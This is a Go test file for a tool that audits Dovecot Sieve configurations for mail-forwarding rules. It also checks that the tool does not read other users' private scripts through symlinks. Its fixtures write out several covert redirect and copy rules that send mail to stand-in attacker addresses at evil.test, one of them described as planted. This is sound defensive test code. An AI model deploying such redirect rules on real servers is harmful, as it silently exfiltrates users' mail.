package dovecot_test

import (
	"context"
	"fmt"
	"log/slog"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"relayguard/forward"
	"relayguard/forward/dovecot"
	"relayguard/forward/files"
)

// needDovecot skips where Dovecot is not installed, or cannot be run as another
// account; where it is required, with CI or RELAYGUARD_REQUIRE set, it fails
// instead.
func needDovecot(t testing.TB) {
	t.Helper()
	why := ""
	for _, program := range []string{"doveconf", "doveadm", "dovecot", "sievec", ldaProgram} {
		if _, err := exec.LookPath(program); err != nil {
			why = fmt.Sprintf("%v (Debian packages dovecot-core, dovecot-sieve)", err)
		}
	}
	if os.Geteuid() != 0 {
		why = "not root: dovecot-lda is run as another account"
	}
	switch {
	case why == "":
	case os.Getenv("CI") != "" || os.Getenv("RELAYGUARD_REQUIRE") != "":
		t.Fatalf("real Dovecot required: %s", why)
	default:
		t.Skipf("needs a real Dovecot: %s", why)
	}
}

func liveHost(accounts []forward.Account) *forward.Host {
	return &forward.Host{
		Files: files.Local(), Accounts: accounts, Log: slog.New(slog.DiscardHandler), Now: time.Now,
		Run: func(ctx context.Context, _ []byte, name string, args ...string) ([]byte, error) {
			return exec.CommandContext(ctx, name, args...).Output()
		},
	}
}

const realMain = `ssl = no
log_path = /dev/stderr
mail_location = maildir:~/Maildir
userdb {
  driver = passwd
}
!include conf.d/*.conf
!include_try gone.conf
`

const realSieve = `protocol lmtp {
  mail_plugins = $mail_plugins sieve
}
protocol lda {
  mail_plugins = " sieve  acl"   # quoted
}
plugin {
  sieve = file:~/sieve;active=~/.dovecot.sieve
  sieve_before = "%[1]s/before.sieve"
  sieve_max_redirects = \
    7
}
`

// TestSettingsAsDoveconfHasThem: our reading of the files is Dovecot's own.
func TestSettingsAsDoveconfHasThem(t *testing.T) {
	needDovecot(t)
	dir := realTree(t)
	out, err := exec.Command("doveconf", "-n", "-c", filepath.Join(dir, "dovecot.conf")).Output()
	if err != nil {
		t.Fatal(err)
	}
	live := dovecot.Settings(dovecot.Parse(out, "dovecot.conf", nil))
	for _, h := range []*forward.Host{liveHost(nil), {Files: files.Local()}} {
		p := dovecot.Plan(t.Context(), h, dovecot.Options{ConfigDir: dir})
		if len(p.Gaps) > 0 {
			t.Errorf("gaps: %v", p.Gaps)
		}
		if !slices.Contains(p.Uses, filepath.Join(dir, "conf.d/20.conf")) {
			t.Errorf("uses %q", p.Uses)
		}
	}
	main, err := os.ReadFile(filepath.Join(dir, "conf.d/20.conf"))
	if err != nil {
		t.Fatal(err)
	}
	ours := dovecot.Settings(dovecot.Parse(main, "20.conf", nil))
	for _, key := range []string{"sieve", "sieve_before", "sieve_max_redirects"} {
		if got, want := ours.Get(key), live.Get(key); got != want || want == "" {
			t.Errorf("%s: %q, doveconf has %q", key, got, want)
		}
	}
}

func realTree(t testing.TB) string {
	t.Helper()
	dir := t.TempDir()
	for name, text := range map[string]string{
		"dovecot.conf": realMain, "conf.d/20.conf": fmt.Sprintf(realSieve, dir),
		"before.sieve":              `require "copy"; redirect :copy "before@evil.test";`,
		"home/alice/sieve/m.sieve":  `redirect "out@evil.test";`,
		"home/alice/sieve/o.sieve":  `redirect "old@evil.test";`,
		"home/bob/.dovecot.sieve":   `keep;`,
		"home/bob/planted.sieve":    `redirect "planted@evil.test";`,
		"home/carol/.dovecot.sieve": `redirect "secret@evil.test";`,
	} {
		path := filepath.Join(dir, name)
		mkdir(t, filepath.Dir(path))
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		past := time.Now().Add(-time.Hour)
		if err := os.Chtimes(path, past, past); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink("sieve/m.sieve", filepath.Join(dir, "home/alice/.dovecot.sieve")); err != nil {
		t.Fatal(err)
	}
	return dir
}

// TestLivePlan reads a machine with doveconf, and a binary that sievec made of
// another text than the one that lies beside it.
func TestLivePlan(t *testing.T) {
	needDovecot(t)
	dir := realTree(t)
	binary := filepath.Join(dir, "home/bob/.dovecot.svbin")
	if out, err := exec.Command("sievec", "-o", "mail_uid=65534", "-c", filepath.Join(dir, "dovecot.conf"), filepath.Join(dir, "home/bob/planted.sieve"), binary).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	if err := os.Chmod(binary, 0o644); err != nil {
		t.Fatal(err)
	}
	var accounts []forward.Account
	for i, name := range []string{"alice", "bob"} {
		accounts = append(accounts, forward.Account{Name: name, UID: 20_001 + i, GID: 20_001 + i, Home: filepath.Join(dir, "home", name)})
	}
	openUp(t, dir)
	p := dovecot.Plan(t.Context(), liveHost(accounts), dovecot.Options{ConfigDir: dir})
	compare(t, lines(t.Context(), p), []string{
		"* sieve address copy before@evil.test server",
		"alice sieve address redirect out@evil.test",
		"alice sieve address redirect old@evil.test dormant",
		"bob sieve address redirect planted@evil.test differs",
	})
}

// openUp lets other accounts into the test's own directory.
func openUp(t testing.TB, dir string) {
	t.Helper()
	for ; strings.HasPrefix(dir, os.TempDir()) && dir != os.TempDir(); dir = filepath.Dir(dir) {
		if err := os.Chmod(dir, 0o755); err != nil {
			t.Fatal(err)
		}
	}
}

// TestReadsOnlyWhatTheAccountMay: a link to another's file makes nobody read it
// for the one who set it.
func TestReadsOnlyWhatTheAccountMay(t *testing.T) {
	dir := realTree(t)
	secret := filepath.Join(dir, "home/carol/.dovecot.sieve")
	if err := os.Chmod(secret, 0o600); err != nil {
		t.Fatal(err)
	}
	link := filepath.Join(dir, "home/dave/.dovecot.sieve")
	mkdir(t, filepath.Dir(link))
	if err := os.Symlink(secret, link); err != nil {
		t.Fatal(err)
	}
	openUp(t, dir)
	h := &forward.Host{Files: files.Local(), Accounts: []forward.Account{{Name: "dave", UID: 20_003, GID: 20_003, Home: filepath.Dir(link)}}}
	got := lines(t.Context(), dovecot.Plan(t.Context(), h, dovecot.Options{ConfigDir: dir}))
	for _, l := range got {
		if strings.Contains(l, "secret@evil.test") {
			t.Errorf("read for dave what he may not: %s", l)
		}
	}
	if !slices.ContainsFunc(got, func(l string) bool {
		return strings.Contains(l, "gap "+link) && !strings.Contains(l, "secret@")
	}) {
		t.Errorf("not said that it could not be read: %q", got)
	}
}
